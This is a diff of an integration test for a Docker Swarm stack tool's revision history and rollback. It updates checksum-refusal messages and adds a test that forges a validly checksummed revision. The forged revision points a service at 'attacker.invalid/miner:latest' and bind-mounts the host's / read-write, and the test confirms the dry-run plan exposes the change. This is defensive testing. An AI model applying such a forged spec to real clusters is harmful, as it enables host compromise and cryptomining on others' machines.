@@ -10,7 +10,7 @@ import { createHash } from 'crypto';
 import * as fs from 'fs';
 import * as os from 'os';
 import * as path from 'path';
-import { gzipSync } from 'zlib';
+import { gunzipSync, gzipSync } from 'zlib';
 
 import type { ServiceSpec } from '../../src/core/specs';
 import { diffSpecs } from '../../src/core/stack/spec-diff';
@@ -119,7 +119,7 @@ describe('stack history, rollback and diff (real engine)', function () {
         assert.strictEqual((await liveSpecs(stack)).size, 2, 'a dry run changes nothing');
 
         const rollback = await cli(['rollback', '--to', '1', stack]);
-        assert.match(rollback.stdout, new RegExp(`service ${stack}_web: update\\n\\s+TaskTemplate.ContainerSpec.Env: \\["V=three"\\] → \\["V=one"\\]`));
+        assert.match(rollback.stdout, new RegExp(`service ${stack}_web: update\\n\\s+image: \\S+ \\(unchanged\\)\\n\\s+TaskTemplate.ContainerSpec.Env: \\["V=three"\\] → \\["V=one"\\]`));
         assert.match(rollback.stdout, /rolled back to revision 1/);
         const restored = await liveSpecs(stack);
         assert.deepStrictEqual([...restored.keys()].sort(), [...first.keys()].sort(), 'the services of revision 1, and only those');
@@ -180,7 +180,7 @@ describe('stack history, rollback and diff (real engine)', function () {
         await cli(['diff', '-c', v1], 2);
     });
 
-    it('refuses revision objects edited by hand or of foreign origin, and changes nothing', async () => {
+    it('refuses revision objects damaged (checksum) or of foreign origin, and changes nothing', async () => {
         const stack = cleanup.stack(uniqueName());
         const v1 = file('v1.yml', [service('web', 'one')]);
         await deploy(v1, stack);
@@ -201,16 +201,42 @@ describe('stack history, rollback and diff (real engine)', function () {
         const before = await client.inspectService(`${stack}_web`);
 
         const history = await cli(['history', stack]);
-        assert.match(history.stdout, /^1\s.*REFUSED: config .*-1 is not a usable revision: its content does not match its sha256 label: it was edited by hand/m);
+        assert.match(history.stdout, /^1\s.*REFUSED: config .*-1 is not a usable revision: its content does not match its sha256 checksum label: it is damaged or was changed after it was written/m);
         assert.match(history.stdout, /^7\s.*REFUSED: .*service "victim_db" in it is not a service of stack/m);
         assert.match(history.stdout, /^2\s.*deploy$/m);
 
         const hand = await cli(['rollback', '--to', '1', stack], 1);
-        assert.match(hand.stderr, /edited by hand.*Nothing was changed/s);
+        assert.match(hand.stderr, /is damaged or was changed after it was written.*Nothing was changed/s);
         const alien = await cli(['rollback', '--to', '7', stack], 1);
         assert.match(alien.stderr, /not a service of stack .*Nothing was changed/s);
         await cli(['rollback', '--to', '5', stack], 1);
         assert.strictEqual((await client.inspectService(`${stack}_web`)).Version.Index, before.Version.Index, 'nothing was applied');
         await assert.rejects(client.inspectService('victim_db'));
+    });
+
+    it('a revision anyone wrote with a correct checksum is listed as any other; its dry-run plan shows the image and the bind mount of /', async () => {
+        const stack = cleanup.stack(uniqueName());
+        await deploy(file('v1.yml', [service('web', 'one')]), stack);
+        const [rev1] = await revisionConfigs(stack);
+        const live = await client.inspectService(`${stack}_web`);
+        // What anyone who may create configs can write: the live spec with another image and the host's / mounted.
+        const spec = JSON.parse(JSON.stringify(live.Spec)) as ServiceSpec;
+        spec.TaskTemplate.ContainerSpec = { ...spec.TaskTemplate.ContainerSpec, Image: 'attacker.invalid/miner:latest', Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] };
+        const recorded = JSON.parse(gunzipSync(Buffer.from(rev1.Spec.Data ?? '', 'base64')).toString('utf8')) as { networks: unknown[] };
+        const forged = gzipSync(Buffer.from(JSON.stringify({
+            schema: 1, stack, revision: 9, time: new Date().toISOString(), deployedBy: 'ops@ci', version: '0.1.0', reason: 'deploy',
+            networks: recorded.networks, services: [{ name: `${stack}_web`, spec }],
+        })));
+        cleanup.track('config', (await client.createConfig({
+            Name: revisionConfigName(stack, 9),
+            Labels: { [STACK_LABEL]: stack, [REVISION_LABEL]: '9', [REVISION_SHA256_LABEL]: createHash('sha256').update(forged).digest('hex') },
+            Data: forged.toString('base64'),
+        })).id);
+
+        const history = await cli(['history', stack]);
+        assert.match(history.stdout, /^9\s.*ops@ci.*deploy$/m, 'the checksum does not tell who wrote a revision: it is listed');
+        const plan = await cli(['rollback', '--to', '9', '--dry-run', stack]);
+        assert.match(plan.stdout, new RegExp(`^service ${stack}_web: update\n    image: \\S+ → attacker\\.invalid/miner:latest\n    mount added: bind / → /host \\(read-write\\)$`, 'm'));
+        assert.strictEqual((await client.inspectService(`${stack}_web`)).Version.Index, live.Version.Index, 'a dry run sends nothing');
     });
 });
